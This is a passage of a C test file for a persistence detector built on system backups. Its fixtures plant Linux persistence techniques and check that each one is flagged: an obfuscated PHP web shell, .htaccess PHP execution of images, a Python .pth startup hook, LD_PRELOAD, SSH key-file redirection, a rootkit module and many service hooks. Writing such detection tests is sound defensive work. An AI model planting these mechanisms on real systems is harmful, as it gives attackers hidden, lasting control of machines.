    put(sys, "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/bin/bash\n"
        "alice:x:1000:1000:Alice:/home/alice:/bin/bash\nbob:x:1001:1001:Bob:/home/bob:/bin/bash\n",
        0644);
    put(sys, "etc/shadow",
        "root:$y$j9T$Zz$attackerchose:19002:0:99999:7:::\n"
        "daemon:*:19000:0:99999:7:::\nalice:$y$j9T$Ef$alicechanged:19001:0:99999:7:::\n"
        "bob:$y$j9T$Gh$bobsecret:19001:0:99999:7:::\n",
        0640);
    put(sys, "usr/lib/python3/dist-packages/aaa.pth",
        "import os; os.system('/var/tmp/.py &')\n", 0644);
    put(sys, "var/www/html/uploads/.htaccess", "AddType application/x-httpd-php .jpg\n", 0644);
    put(sys, "var/www/html/inc/config.inc",
        "<?php @eval(base64_decode('c3lzdGVtKCRfR0VUWyJjIl0pOw==')); ?>\n", 0644);
    put(sys, "etc/xdg/autostart/update.desktop",
        "[Desktop Entry]\nType=Application\nExec=/var/tmp/.d\n", 0644);
    append(sys, "etc/update-motd.d/10-uname", "/var/tmp/.m &\n");
    put(sys, "usr/lib/systemd/system/apt-daily-upgrade.service",
        "[Unit]\nDescription=Daily apt upgrade\n[Service]\nType=oneshot\n"
        "ExecStartPre=/var/lib/.cache/dbus-helper\n"
        "ExecStart=/usr/lib/apt/apt.systemd.daily install\n",
        0644);
    append(sys, "etc/cron.daily/logrotate", "/var/tmp/.c\n");
}

static void expect_at(const run *r, const char *path, const char *ind, const char *ev,
                      cr_severity min, const char *in_detail)
{
    const cr_finding *f = find(r, path, ind, ev);
    int ok = f && f->severity >= min && (!in_detail || strstr(f->detail, in_detail));
    CHECK(ok);
    if (!ok)
        fprintf(stderr, "  expected %s %s [%s] at %s or more%s%s: %s\n", path, ind, ev ? ev : "",
                cr_severity_name(min), in_detail ? " with " : "", in_detail ? in_detail : "",
                f ? cr_severity_name(f->severity) : "not found");
}

static void test_places(void)
{
    char base[PATH_MAX], vault[PATH_MAX], sys[PATH_MAX];
    fx_scratch_new(base, "places");
    join(vault, base, "vault");
    join(sys, base, "sys");
    REQUIRE(mkdir(sys, 0755) == 0);
    cr_repo *repo = fx_vault_new(vault, PW);
    hn_cache *cache = NULL;
    REQUIRE(hn_cache_new(&cache) == 0);

    pl_day1(sys);
    cr_snapshot *s1 = backup(repo, sys, 1);
    pl_day2(sys);
    cr_snapshot *s2 = backup(repo, sys, 2);
    pl_day3(sys);
    cr_snapshot *s3 = backup(repo, sys, 3);

    run r1, r2, r3;
    judge(&r1, repo, NULL, s1, NULL, cache);
    dump("places day 1 (baseline)", &r1);
    CHECK(count_min(&r1, CR_SEV_LOW) == 0);
    /* One note for a shell startup file, never a password hash in evidence. */
    CHECK(count_path(&r1, "/root/.bashrc") == 1);
    for (size_t i = 0; i < r1.n; i++)
        CHECK(!r1.f[i].evidence || !strstr(r1.f[i].evidence, "secret"));

    judge(&r2, repo, s1, s2, &r1, cache);
    dump("places day 2 (ordinary life)", &r2);
    CHECK(count_min(&r2, CR_SEV_HIGH) == 0);
    CHECK(count_path(&r2, "/home/bob/.bashrc") == 0); /* a copy of /etc/skel/.bashrc */

    judge(&r3, repo, s2, s3, &r2, cache);
    dump("places day 3 (attack)", &r3);
    const cr_severity H = CR_SEV_HIGH;
    expect_at(&r3, "/etc/profile.d/sysinfo.sh", "persistence:shell-startup",
              "/usr/local/bin/sysinfo --daemon &", H, NULL);
    expect_at(&r3, "/etc/bash.bashrc", "persistence:shell-startup",
              "alias sudo='sudo /var/tmp/.s'", H, "package bash");
    expect_at(&r3, "/root/.bashrc", "persistence:shell-startup",
              "( /usr/local/bin/.helper & ) 2>/dev/null", H, NULL);
    CHECK(count_path(&r3, "/root/.bashrc") == 1);
    expect_at(&r3, "/root/.ssh/rc", "persistence:ssh-rc", "nohup /var/tmp/.x >/dev/null 2>&1 &",
              H, NULL);
    expect_at(&r3, "/etc/ssh/sshd_config", "persistence:sshd-config",
              "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u", H, NULL);
    CHECK(count_path(&r3, "/etc/ssh/sshd_config") == 1);
    expect_at(&r3, "/etc/ssh/keys/root", "persistence:ssh-key", KEY_B_EV, H, NULL);
    expect_at(&r3, "/etc/environment", "persistence:environment",
              "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libaudit2.so", CR_SEV_CRITICAL, NULL);
    CHECK(count_path(&r3, "/etc/environment") == 1);
    expect_at(&r3, "/etc/ld.so.conf.d/zz-local.conf", "persistence:ld-so-conf", "/var/tmp/.lib", H,
              NULL);
    expect_at(&r3, "/etc/udev/rules.d/99-usb.rules", "persistence:udev",
              "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/usr/local/bin/usbmon\"", H, NULL);
    expect_at(&r3, "/etc/apt/apt.conf.d/99update", "persistence:apt-hook",
              "APT::Update::Pre-Invoke: /var/tmp/.u", H, NULL);
    expect_at(&r3, "/etc/apt/apt.conf.d/98cleanup", "persistence:apt-hook",
              "DPkg::Post-Invoke: /var/tmp/.p", H, NULL);
    expect_at(&r3, "/etc/logrotate.d/rsyslog", "persistence:logrotate", "postrotate: /var/tmp/.r",
              H, "package rsyslog");
    CHECK(count_path(&r3, "/etc/logrotate.d/rsyslog") == 1);
    expect_at(&r3, "/etc/NetworkManager/dispatcher.d/01-up", "persistence:network-hook", NULL, H,
              NULL);
    expect_at(&r3, "/etc/modules-load.d/diamorphine.conf", "persistence:kernel-module",
              "diamorphine", H, NULL);
    expect_at(&r3, "/etc/init/evil.conf", "persistence:upstart", NULL, H, NULL);
    expect_at(&r3, "/var/spool/cron/atjobs/a0000101a2b3c4", "persistence:at", NULL, H, NULL);
    expect_at(&r3, "/home/alice/.local/share/systemd/user/sync.service", "persistence:systemd",
              NULL, H, NULL);
    expect_at(&r3, "/etc/systemd/system/ssh.service.d/override.conf", "persistence:systemd", NULL,
              H, NULL);
    expect_at(&r3, "/etc/group", "persistence:privileged-group", "sudo: alice", H, NULL);
    CHECK(count_path(&r3, "/etc/group") == 1);
    expect_at(&r3, "/etc/passwd", "persistence:system-account-shell",
              "daemon (user id 1): /bin/bash", H, NULL);
    CHECK(count_path(&r3, "/etc/passwd") == 1);
    const cr_finding *f = NULL;
    for (size_t i = 0; i < r3.n; i++)
        if (!strcmp(r3.f[i].path, "/etc/shadow"))
            f = &r3.f[i];
    CHECK(f && f->severity >= H && f->evidence && strstr(f->evidence, "root: password set") &&
          !strstr(f->evidence, "attacker"));
    CHECK(count_path(&r3, "/etc/shadow") == 1);
    expect_at(&r3, "/usr/lib/python3/dist-packages/aaa.pth", "persistence:python-startup",
              "import os; os.system('/var/tmp/.py &')", H, NULL);
    expect_at(&r3, "/var/www/html/uploads/.htaccess", "persistence:webroot-config",
              "AddType application/x-httpd-php .jpg", H, NULL);
    expect_at(&r3, "/var/www/html/inc/config.inc", "persistence:webroot-script", NULL, H,
              "hidden");
    expect_at(&r3, "/etc/xdg/autostart/update.desktop", "persistence:autostart", NULL, H, NULL);
    expect_at(&r3, "/etc/update-motd.d/10-uname", "persistence:motd", NULL, H,
              "new line: /var/tmp/.m &");
    expect_at(&r3, "/usr/lib/systemd/system/apt-daily-upgrade.service", "persistence:systemd",
              NULL, H, "new line: ExecStartPre=/var/lib/.cache/dbus-helper");
    expect_at(&r3, "/etc/cron.daily/logrotate", "persistence:cron", NULL, H,
              "new line: /var/tmp/.c");

    /* Day 4: hostile bytes in every file of the new places judged item by item: no
     * crash, and what is stored is clean text. */
    static const char *const hostile[] = {
        "etc/profile.d/sysinfo.sh", "root/.bashrc",        "root/.ssh/rc",
        "etc/ssh/sshd_config",      "etc/environment",     "etc/ld.so.conf.d/zz-local.conf",
        "etc/udev/rules.d/99-usb.rules", "etc/apt/apt.conf.d/99update",
        "etc/apt/apt.conf.d/98cleanup",  "etc/logrotate.d/rsyslog",
        "etc/modules-load.d/diamorphine.conf", "etc/group", "etc/passwd", "etc/shadow",
        "usr/lib/python3/dist-packages/aaa.pth", "var/www/html/uploads/.htaccess"};
    uint8_t *hb = malloc(300000);
    REQUIRE(hb);
    for (size_t i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
        size_t n = 500 + i * 17000;
        fill_random(hb, n);
        for (size_t k = 0; k < n; k += 1 + (hb[k] % 70))
            hb[k] = (uint8_t) "\n\n:=\"{};#\\ "[k % 11];
        write_at(sys, hostile[i], hb, n);
    }
    free(hb);
    cr_snapshot *s4 = backup(repo, sys, 4);
    run r4;
    judge(&r4, repo, s3, s4, &r3, cache);
    size_t unclean = 0;
    for (size_t i = 0; i < r4.n; i++)
        unclean +=
            !clean_text(r4.f[i].detail) || (r4.f[i].evidence && !clean_text(r4.f[i].evidence));
    printf("places day 4 (hostile bytes): %zu findings\n", r4.n);
    CHECK(unclean == 0);
    CHECK(r4.n > 0);

    cr_findings_free(r1.f, r1.n);
    cr_findings_free(r2.f, r2.n);
    cr_findings_free(r3.f, r3.n);
    cr_findings_free(r4.f, r4.n);
    cr_snapshot_free(s1);
    cr_snapshot_free(s2);
    cr_snapshot_free(s3);
    cr_snapshot_free(s4);
    hn_cache_free(cache);
    cr_repo_free(repo);
    fx_scratch_done(base);
}

/*
 * sshd's AuthorizedKeysFile set outside the main file's top level: in a file of
 * sshd_config.d, inside a Match block, and in a file the main file Includes
 * from elsewhere (itself judged as sshd configuration). Day 2 is ordinary
 * hardening (a drop-in, a Match block without a key file): nothing at or
 * above high. Day 3 plants each, and the key file each one points to.
 */
static void test_sshd_includes(void)
{
    char base[PATH_MAX], vault[PATH_MAX], sys[PATH_MAX];
    fx_scratch_new(base, "sshd");
    join(vault, base, "vault");
    join(sys, base, "sys");
    REQUIRE(mkdir(sys, 0755) == 0);
    cr_repo *repo = fx_vault_new(vault, PW);
    hn_cache *cache = NULL;
    REQUIRE(hn_cache_new(&cache) == 0);

    put(sys, "etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\n"
        "Subsystem sftp /usr/lib/openssh/sftp-server\n",
        0644);
    put(sys, "root/.ssh/authorized_keys", KEY_A " admin@hospital\n", 0600);
    cr_snapshot *s1 = backup(repo, sys, 1);
    put(sys, "etc/ssh/sshd_config.d/10-hardening.conf",
        "PasswordAuthentication no\nMatch User backup\n    PasswordAuthentication no\n"
        "    AuthorizedKeysFile .ssh/authorized_keys\n",
        0644);
    cr_snapshot *s2 = backup(repo, sys, 2);
    /* A Match block in a drop-in moves deploy's keys; the main file Includes a
     * file outside sshd_config.d whose Match block moves everyone's. */
    put(sys, "etc/ssh/sshd_config.d/50-cloud.conf",
        "Match User deploy\n    AuthorizedKeysFile /var/lib/.k/%u\n", 0644);
    put(sys, "var/lib/.k/deploy", KEY_B " attacker@evil\n", 0644);
    append(sys, "etc/ssh/sshd_config", "Include site/extra\n");
    put(sys, "etc/ssh/site/extra", "Match Address 10.0.0.0/8\n\tAuthorizedKeysFile /opt/keys/%u\n",
        0644);
    put(sys, "opt/keys/root", KEY_B " attacker@evil\n", 0644);
    /* Not named by any AuthorizedKeysFile: not a key file. */
    put(sys, "opt/other/root", KEY_B " attacker@evil\n", 0644);
    cr_snapshot *s3 = backup(repo, sys, 3);

    run r1, r2, r3;
    judge(&r1, repo, NULL, s1, NULL, cache);
    CHECK(count_min(&r1, CR_SEV_LOW) == 0);
    judge(&r2, repo, s1, s2, &r1, cache);
    dump("sshd day 2 (hardening)", &r2);
    CHECK(count_min(&r2, CR_SEV_HIGH) == 0);
    judge(&r3, repo, s2, s3, &r2, cache);
    dump("sshd day 3 (keys moved)", &r3);
    const cr_severity H = CR_SEV_HIGH;
    expect_at(&r3, "/etc/ssh/sshd_config.d/50-cloud.conf", "persistence:sshd-config",
              "AuthorizedKeysFile /var/lib/.k/%u", H, NULL);
    expect_at(&r3, "/var/lib/.k/deploy", "persistence:ssh-key", KEY_B_EV, H, NULL);
    expect_at(&r3, "/etc/ssh/sshd_config", "persistence:sshd-config", "Include site/extra", H,
              NULL);
    expect_at(&r3, "/etc/ssh/site/extra", "persistence:sshd-config",
              "AuthorizedKeysFile /opt/keys/%u", H, NULL);
    expect_at(&r3, "/opt/keys/root", "persistence:ssh-key", KEY_B_EV, H, NULL);
    CHECK(count_path(&r3, "/opt/other/root") == 0);

    cr_findings_free(r1.f, r1.n);
    cr_findings_free(r2.f, r2.n);
    cr_findings_free(r3.f, r3.n);
    cr_snapshot_free(s1);
    cr_snapshot_free(s2);
    cr_snapshot_free(s3);
    hn_cache_free(cache);
    cr_repo_free(repo);
    fx_scratch_done(base);
}

int main(void)
{
    REQUIRE(cr_init() == 0);
    test_dpkg_parse();
    test_dpkg_hostile();
    test_debian_disk();
    test_scenario();
    test_debian_vault();
    test_places();
    test_sshd_includes();
    return test_summary("test_persist");
}
